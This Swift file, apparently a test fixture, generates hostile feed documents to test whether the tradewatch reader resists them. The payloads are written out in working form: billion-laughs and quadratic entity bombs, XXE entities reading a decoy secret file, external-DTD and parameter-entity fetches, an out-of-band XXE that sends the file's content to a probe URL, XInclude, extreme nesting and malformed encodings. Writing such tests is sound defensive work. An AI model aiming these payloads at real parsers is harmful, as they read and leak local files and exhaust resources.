import Foundation

/// Documents written to hurt a feed reader, generated into a folder next to a
/// secret file whose marker must never come out of tradewatch. Big ones are
/// made here, never committed.
struct HostileDocuments {
    /// A hostile document: a name for messages and its path on disk.
    struct Case: Sendable {
        let name: String
        let path: String
    }

    let folder: String
    /// A local file that external entities point at; its content must never
    /// appear in any output.
    let secretPath: String
    let marker: String
    private(set) var cases: [Case] = []

    /// Writes every document into a new temporary folder. `probe` is an
    /// http:// base URL of a server that records requests: entities pointing
    /// there must never be fetched.
    init(probe: String) throws {
        folder = FileManager.default.temporaryDirectory.appendingPathComponent("tw-hostile-\(UUID().uuidString.prefix(8))").path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        marker = "TW-SECRET-\(UUID().uuidString)"
        secretPath = folder + "/secret.txt"
        try "root:x:0:0:\(marker):/root:/bin/sh\n".write(toFile: secretPath, atomically: true, encoding: .utf8)
        for (name, bytes) in Self.documents(secret: secretPath, probe: probe) {
            let path = folder + "/" + name
            try Data(bytes).write(to: URL(fileURLWithPath: path))
            cases.append(Case(name: name, path: path))
        }
    }

    /// Deletes the folder (kept with TW_KEEP_HOSTILE=1, to rerun a case by hand).
    func remove() {
        guard ProcessInfo.processInfo.environment["TW_KEEP_HOSTILE"] == nil else { return print("kept \(folder)") }
        try? FileManager.default.removeItem(atPath: folder)
    }

    static let rssOpen = "<rss version=\"2.0\"><channel><title>hostile</title><link>http://127.0.0.1/</link>"
    static let rssClose = "</channel></rss>\n"

    static func item(_ title: String, _ description: String) -> String {
        "<item><guid>\(UUID().uuidString)</guid><title>\(title)</title><description>\(description)</description></item>"
    }

    static func documents(secret: String, probe: String) -> [(String, [UInt8])] {
        var docs: [(String, [UInt8])] = []
        func add(_ name: String, _ text: String) { docs.append((name, Array(text.utf8))) }

        // Entity expansion: 10^9 "lol"s; then 100 KB x 100,000 references.
        var laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\n<!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            laughs += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">\n"
        }
        add("billion-laughs.xml", laughs + "]>\n" + rssOpen + item("&lol9;", "&lol9;&lol9;") + rssClose)
        add("quadratic.xml", "<!DOCTYPE rss [<!ENTITY a \"" + String(repeating: "x", count: 100_000) + "\">]>"
            + rssOpen + item("q", String(repeating: "&a;", count: 100_000)) + rssClose)

        // External entities: file:// (absolute, bare path, relative to the
        // document), http:// to the probe, parameter entities, an external
        // DTD, out-of-band exfiltration, XInclude.
        add("xxe-file.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY a SYSTEM "file://\(secret)"><!ENTITY b SYSTEM "\(secret)"><!ENTITY c SYSTEM "secret.txt">]>
            \(rssOpen)\(item("t &a;&b;&c;", "d &a; &b; &c;"))\(rssClose)
            """)
        add("xxe-http.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY net SYSTEM "\(probe)/entity">]>
            \(rssOpen)\(item("t &net;", "d &net;"))\(rssClose)
            """)
        add("xxe-parameter.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE rss [<!ENTITY % local SYSTEM "file://\(secret)"> %local;
              <!ENTITY % remote SYSTEM "\(probe)/parameter.dtd"> %remote;]>
            \(rssOpen)\(item("t", "d"))\(rssClose)
            """)
        add("xxe-external-dtd.xml", """
            <?xml version="1.0" standalone="no"?>
            <!DOCTYPE rss SYSTEM "\(probe)/external.dtd">
            \(rssOpen)\(item("t", "d"))\(rssClose)
            """)
        add("xxe-out-of-band.xml", """
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY % file SYSTEM "file://\(secret)">
              <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '\(probe)/oob?x=%file;'>">
              %eval; %exfil;]>
            \(rssOpen)\(item("t", "d"))\(rssClose)
            """)
        add("xinclude.xml", """
            <?xml version="1.0"?>
            <rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>x</title>
            <item><title>t</title><description>d<xi:include href="file://\(secret)" parse="text"/></description></item>
            <xi:include href="\(probe)/xinclude" parse="text"/>
            \(rssClose)
            """)

        // 200,000 levels, inside an item's text and as the document's own structure.
        let depth = 200_000
        add("deep-in-item.xml", rssOpen + "<item><title>deep</title><description>" + String(repeating: "<div>", count: depth)
            + "x" + String(repeating: "</div>", count: depth) + "</description></item>" + rssClose)
        add("deep-structure.xml", rssOpen + item("first", "d") + String(repeating: "<x>", count: depth)
            + String(repeating: "</x>", count: depth) + rssClose)
        add("unclosed-items.xml", rssOpen + String(repeating: "<item><title>open", count: depth))

        // Bytes that are not UTF-8, NULs, a lying encoding declaration.
        var broken = Array(("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + rssOpen + "<item><title>a").utf8)
        broken += [0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80, 0xC0, 0xAF, 0x00, 0x00, 0xF4, 0x90, 0x80, 0x80]
        broken += Array("b</title><description>c".utf8) + [0x00] + Array("d</description></item>".utf8)
        broken += Array(String(repeating: "\u{0}\u{1}\u{1B}", count: 10_000).utf8) + Array(rssClose.utf8)
        docs.append(("invalid-utf8-nul.xml", broken))
        docs.append(("lying-utf16.xml", Array(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + rssOpen + item("t", "d") + rssClose).utf8)))

        // Size: one 50 MB item, a 5 MB element name, 10 MB of entity references.
        var big = Array((rssOpen + "<item><title>big</title><description>").utf8)
        let words = Array("China suspends rare earth export controls and more words ".utf8)
        big.reserveCapacity(50 * 1024 * 1024 + 200)
        while big.count < 50 * 1024 * 1024 { big += words }
        big += Array(("</description></item>" + rssClose).utf8)
        docs.append(("big-item-50mb.xml", big))
        add("huge-name.xml", rssOpen + "<item><title>n</title><" + String(repeating: "n", count: 5_000_000) + "/></item>" + rssClose)
        add("entity-flood.xml", rssOpen + item("e", String(repeating: "&nbsp;&#150;&amp;&#x80;&bogus;", count: 350_000)) + rssClose)

        // Not feeds at all.
        add("empty.xml", "")
        add("json.xml", #"{"version": "https://jsonfeed.org/version/1", "items": [{"id": "1", "title": "x"}]}"#)
        add("html.xml", "<!DOCTYPE html><html><head><title>Not a feed</title></head><body><p>hello</p></body></html>")
        var generator = SystemRandomNumberGenerator()
        docs.append(("random-bytes.xml", (0..<1_000_000).map { _ in UInt8.random(in: 0...255, using: &generator) }))
        return docs
    }
}
